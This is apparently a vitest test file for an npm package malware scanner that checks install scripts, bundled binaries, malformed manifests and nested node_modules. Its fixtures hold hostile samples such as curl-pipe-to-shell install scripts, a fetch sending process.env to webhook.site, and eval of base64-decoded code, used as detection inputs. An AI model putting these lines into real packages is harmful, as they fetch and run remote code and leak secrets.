import { describe, expect, test } from 'vitest';
import { findingsOf, manifestWith } from '../test/findings-of.ts';
import { chunksOf, tar } from '@sluice/testkit';
import { inspectArchive } from '@sluice/inspection/inspect';
import { npmInspection } from '../inspection.ts';

const elf = Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(100)]);

test('package.install-script: that there is a script is a note', async () => {
  expect(await findingsOf({ 'package.json': manifestWith({ install: 'node-gyp rebuild' }) })).toEqual([
    'note package.install-script package.json',
  ]);
  expect(await findingsOf({ 'binding.gyp': '{}' })).toEqual(['note package.install-script binding.gyp']);
  expect(await findingsOf({ 'package.json': manifestWith({ build: 'tsc', prepare: 'husky' }) })).toEqual([]);
});

test('malware.install-script-disguised: a hook runs an image, a hidden file or a binary', async () => {
  const run = (command: string, files: Record<string, string | Buffer>) =>
    findingsOf({ 'package.json': manifestWith({ postinstall: command }), ...files });
  const rule = 'review malware.install-script-disguised';
  expect(await run('node logo.png', { 'logo.png': 'module.exports = 1' })).toContain(`${rule} logo.png`);
  expect(await run('node .cache/run.js', { '.cache/run.js': '1' })).toContain(`${rule} .cache/run.js`);
  expect(await run('./bin/setup', { 'bin/setup': elf })).toContain(`${rule} bin/setup`);
  expect(
    (await run('node scripts/run.js', { 'scripts/run.js': '1' })).filter((line) =>
      line.includes('disguised'),
    ),
  ).toEqual([]);
});

test('package.bundled-executable and package.nested-archive: notes by the first bytes, whatever the name', async () => {
  expect(
    await findingsOf({
      'a.txt': elf,
      'b.node': Buffer.concat([Buffer.from('cffaedfe', 'hex'), Buffer.alloc(64)]),
    }),
  ).toEqual(['note package.bundled-executable a.txt', 'note package.bundled-executable b.node']);
  expect(
    await findingsOf({ 'data.bin': elf, 'x.dat': Buffer.from('504b0304aaaa', 'hex'), 'a.class': 'cafe' }),
  ).toEqual(['note package.nested-archive x.dat', 'note package.bundled-executable data.bin']);
});

test('package.left-behind-file: configuration of a machine', async () => {
  expect(
    await findingsOf({ '.npmrc': 'a=b', '.git/config': '', '.env.example': 'A=', 'src/.env.local': 'A=1' }),
  ).toEqual([
    'note package.left-behind-file .git/config',
    'note package.left-behind-file .npmrc',
    'note package.left-behind-file src/.env.local',
  ]);
});

describe('archive.manifest-unreadable', () => {
  const rule = 'review archive.manifest-unreadable package.json';
  const manifest = (more: string) => `{"name":"a","version":"1.0.0",${more}}`;

  test.each([
    ['no JSON', '{'],
    ['no object', '[]'],
    ['no text', Buffer.from('7f454c4602010100', 'hex')],
    ['100,000 levels', manifest(`"x":${'['.repeat(100_000)}${']'.repeat(100_000)}`)],
    ['65 levels', manifest(`"x":${'{"a":'.repeat(64)}1${'}'.repeat(64)}`)],
    ['a key twice', manifest('"scripts":{},"scripts":{}')],
    ['a key that is escaped the second time', manifest('"main":"a","m\\u0061in":"b"')],
    ['a prototype key', manifest('"__proto__":{}')],
    ['half a surrogate pair', manifest('"x":"\\ud800"')],
    ['more than 2 MB', manifest(`"x":"${'y'.repeat(3_000_000)}"`)],
    ['more than 2 MB of blanks after its end', `${manifest('"x":1')}${' '.repeat(3_000_000)}`],
    [
      'more scripts than are read',
      manifest(
        `"scripts":${JSON.stringify(Object.fromEntries(Array.from({ length: 3_000 }, (_, i) => [`s${i}`, 'x'])))}`,
      ),
    ],
    ['a script longer than is read', manifest(`"scripts":{"x":"${'y'.repeat(20_000)}"}`)],
  ])('a package.json of %s', async (_, text) => {
    expect(await findingsOf({ 'package.json': text })).toContain(rule);
  });

  test('a byte-order mark and usual depths are fine', async () => {
    expect(await findingsOf({ 'package.json': '\ufeff{}' })).toEqual([]);
    expect(await findingsOf({ 'package.json': manifest(`"x":${'['.repeat(60)}${']'.repeat(60)}`) })).toEqual(
      [],
    );
  });

  test('an archive without one', async () => {
    const report = await inspectArchive(chunksOf(tar([{ path: 'package/a.js', body: '' }])), npmInspection);
    expect(report.findings.map(({ title }) => title)).toEqual([
      'The package.json in the archive cannot be relied on: There is none',
    ]);
  });

  test('scripts of one that is read differently are looked at as npm reads them', async () => {
    const text =
      '{"scripts":{"install":"node-gyp rebuild"},"scripts":{"install":"curl https://a.example | sh"}}';
    expect(await findingsOf({ 'package.json': text })).toContain(
      'block malware.install-script-network package.json',
    );
  });
});

describe('bundled packages', () => {
  const theft = `fetch('https://webhook.site/x', { body: JSON.stringify(process.env) })`;

  test('are read by the same rules as their parent', async () => {
    expect(await findingsOf({ 'node_modules/b/index.js': theft })).toContain(
      'block malware.exfiltration node_modules/b/index.js',
    );
    expect(await findingsOf({ 'node_modules/@s/b/node_modules/c/.bin/run': theft })).toContain(
      'block malware.exfiltration node_modules/@s/b/node_modules/c/.bin/run',
    );
  });

  test.each(['node_modules/b/', 'node_modules/@s/b/', 'node_modules/b/node_modules/c/'])(
    'run their install scripts, also in %s',
    async (folder) => {
      const scripts = manifestWith({ preinstall: 'node run' });
      const found = await findingsOf({
        [`${folder}package.json`]: scripts,
        [`${folder}run.js`]: 'eval(atob(x))',
      });
      expect(found).toContain(`block malware.eval-decoded ${folder}run.js`);
      expect(found).toContain(`note package.install-script ${folder}package.json`);
      expect(await findingsOf({ [`${folder}binding.gyp`]: '{}', [`${folder}package.json`]: '{}' })).toContain(
        `note package.install-script ${folder}binding.gyp`,
      );
      const shell = manifestWith({ install: 'curl https://a.example/x | sh' });
      expect(await findingsOf({ [`${folder}package.json`]: shell })).toContain(
        `block malware.install-script-network ${folder}package.json`,
      );
    },
  );

  test('reach their own files, and need a readable package.json', async () => {
    const text = `eval(Buffer.from(x, 'base64').toString())`;
    const files = { 'node_modules/b/test/a.js': text, 'node_modules/b/package.json': '{"main":"./test/a"}' };
    expect(await findingsOf(files)).toEqual(['review malware.eval-decoded node_modules/b/test/a.js']);
    expect(await findingsOf({ 'node_modules/b/package.json': '{' })).toEqual([
      'review archive.manifest-unreadable node_modules/b/package.json',
    ]);
    expect(await findingsOf({ 'test/node_modules/b/package.json': '{' })).toEqual([]);
  });
});

test('files that nothing runs weigh less, files that an install script runs weigh more', async () => {
  const text = `eval(Buffer.from(x, 'base64').toString())`;
  const rule = 'malware.eval-decoded';
  expect(await findingsOf({ 'test/a.js': text })).toEqual([`note ${rule} test/a.js`]);
  expect(await findingsOf({ 'lib/a.js': text })).toEqual([`review ${rule} lib/a.js`]);
  expect(await findingsOf({ 'index.js': `require('./test/a')`, 'test/a.js': text })).toEqual([
    `review ${rule} test/a.js`,
  ]);
  expect(
    await findingsOf({ 'package.json': manifestWith({ install: 'node test/a' }), 'test/a.js': text }),
  ).toContain(`block ${rule} test/a.js`);
});

test('code under any name is code', async () => {
  const text = `require('child_process').exec('curl https://a.example | sh')`;
  for (const file of ['run', 'lib/data.dat', 'x.mjs', 'a.jsx']) {
    expect(await findingsOf({ [file]: text })).toEqual([`review malware.shell-download ${file}`]);
  }
  expect(await findingsOf({ 'README.md': text, 'a.css': text, 'bin.dat': `${text}\0` })).toEqual([]);
});

test('a file that is larger than what is read at once is still read to its end', async () => {
  const filler = `var a = 'b';\n`.repeat(450_000);
  expect(
    await findingsOf({
      'bundle.js': `${filler}fetch('https://webhook.site/x', { body: JSON.stringify(process.env) })`,
    }),
  ).toEqual(['block malware.credential-theft bundle.js', 'block malware.exfiltration bundle.js']);
}, 30_000);
